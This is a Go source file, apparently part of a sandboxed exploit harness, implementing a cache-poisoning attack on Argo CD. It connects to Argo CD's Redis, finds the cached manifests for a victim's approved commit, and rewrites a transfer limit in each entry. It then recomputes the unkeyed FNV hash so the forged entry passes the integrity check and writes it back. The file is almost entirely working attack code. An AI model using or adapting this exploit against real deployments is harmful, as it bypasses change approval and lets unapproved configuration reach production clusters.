package bypass

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"hash/fnv"
	"io"
	"net"
	"regexp"
	"strconv"
	"strings"
)

// poison changes the transfer limit in the manifests that Argo CD keeps in Redis for
// the approved commit of a victim, as anybody can who reaches Redis. The hash in an
// entry is against corruption and needs no key (reposerver/cache/cache.go).
func (v *victim) poison(ctx context.Context) error {
	redis, err := dialRedis(ctx, v.Sandbox.RedisAddr())
	if err != nil {
		return err
	}
	defer redis.close()
	keys, err := redis.list("KEYS", "mfst|*|"+v.name+"|"+v.Enrolled+"|*")
	if err != nil {
		return err
	}
	if len(keys) == 0 {
		return errors.New("Argo CD keeps no manifests of the approved commit")
	}
	for _, key := range keys {
		entry, err := redis.text("GET", key)
		if err != nil {
			return err
		}
		changed, err := forgeEntry([]byte(entry))
		if err != nil {
			return err
		}
		if _, err := redis.text("SET", key, string(changed)); err != nil {
			return err
		}
	}
	return nil
}

var entryHash = regexp.MustCompile(`"cacheEntryHash":"[^"]*"`)

// forgeEntry changes the limit in an entry of the manifest cache and its hash.
func forgeEntry(packed []byte) ([]byte, error) {
	reader, err := gzip.NewReader(bytes.NewReader(packed))
	if err != nil {
		return nil, fmt.Errorf("unpack an entry: %w", err)
	}
	entry, err := io.ReadAll(io.LimitReader(reader, 1<<20))
	if err != nil {
		return nil, fmt.Errorf("unpack an entry: %w", err)
	}
	entry = bytes.TrimSpace(entry) // Argo CD's encoder ends it with a line feed
	if !json.Valid(entry) || !bytes.Contains(entry, []byte(approvedLimit)) {
		return nil, fmt.Errorf("an entry of another kind: %.200s", entry)
	}
	entry = bytes.ReplaceAll(entry, []byte(`\"`+approvedLimit+`\"`), []byte(`\"`+writtenLimit+`\"`))
	entry = entryHash.ReplaceAll(entry, []byte(`"cacheEntryHash":""`))
	sum := fnv.New64a()
	_, _ = sum.Write(entry)
	hash := base64.URLEncoding.EncodeToString(sum.Sum(nil))
	entry = entryHash.ReplaceAll(entry, []byte(`"cacheEntryHash":"`+hash+`"`))
	var out bytes.Buffer
	writer := gzip.NewWriter(&out)
	if _, err := writer.Write(entry); err != nil {
		return nil, fmt.Errorf("pack an entry: %w", err)
	}
	if err := writer.Close(); err != nil {
		return nil, fmt.Errorf("pack an entry: %w", err)
	}
	return out.Bytes(), nil
}

// redisClient speaks as much of Redis' protocol as an attacker needs.
type redisClient struct {
	conn net.Conn
	in   *bufio.Reader
}

func dialRedis(ctx context.Context, addr string) (*redisClient, error) {
	var dialer net.Dialer
	conn, err := dialer.DialContext(ctx, "tcp", addr)
	if err != nil {
		return nil, fmt.Errorf("reach Redis: %w", err)
	}
	if deadline, ok := ctx.Deadline(); ok {
		if err := conn.SetDeadline(deadline); err != nil {
			return nil, errors.Join(fmt.Errorf("reach Redis: %w", err), conn.Close())
		}
	}
	return &redisClient{conn: conn, in: bufio.NewReader(conn)}, nil
}

func (c *redisClient) close() { _ = c.conn.Close() }

func (c *redisClient) send(args ...string) error {
	var out strings.Builder
	fmt.Fprintf(&out, "*%d\r\n", len(args))
	for _, arg := range args {
		fmt.Fprintf(&out, "$%d\r\n%s\r\n", len(arg), arg)
	}
	if _, err := io.WriteString(c.conn, out.String()); err != nil {
		return fmt.Errorf("ask Redis: %w", err)
	}
	return nil
}

// text sends a command and returns the one text that answers it.
func (c *redisClient) text(args ...string) (string, error) {
	if err := c.send(args...); err != nil {
		return "", err
	}
	return c.read()
}

// list sends a command and returns the texts that answer it.
func (c *redisClient) list(args ...string) ([]string, error) {
	if err := c.send(args...); err != nil {
		return nil, err
	}
	n, err := c.header('*')
	if err != nil {
		return nil, err
	}
	var all []string
	for range n {
		one, err := c.read()
		if err != nil {
			return nil, err
		}
		all = append(all, one)
	}
	return all, nil
}

// read reads a simple or a counted text.
func (c *redisClient) read() (string, error) {
	if first, err := c.in.Peek(1); err == nil && first[0] == '+' {
		return c.in.ReadString('\n')
	}
	n, err := c.header('$')
	if err != nil {
		return "", err
	}
	text := make([]byte, n+2)
	if _, err := io.ReadFull(c.in, text); err != nil {
		return "", fmt.Errorf("read from Redis: %w", err)
	}
	return string(text[:n]), nil
}

// header reads a line that begins with kind and counts what follows.
func (c *redisClient) header(kind byte) (int, error) {
	line, err := c.in.ReadString('\n')
	if err != nil {
		return 0, fmt.Errorf("read from Redis: %w", err)
	}
	n, err := strconv.Atoi(strings.TrimSpace(line[1:]))
	if line[0] != kind || err != nil || n < 0 || n > 1<<20 {
		return 0, fmt.Errorf("Redis answers %q", line)
	}
	return n, nil
}
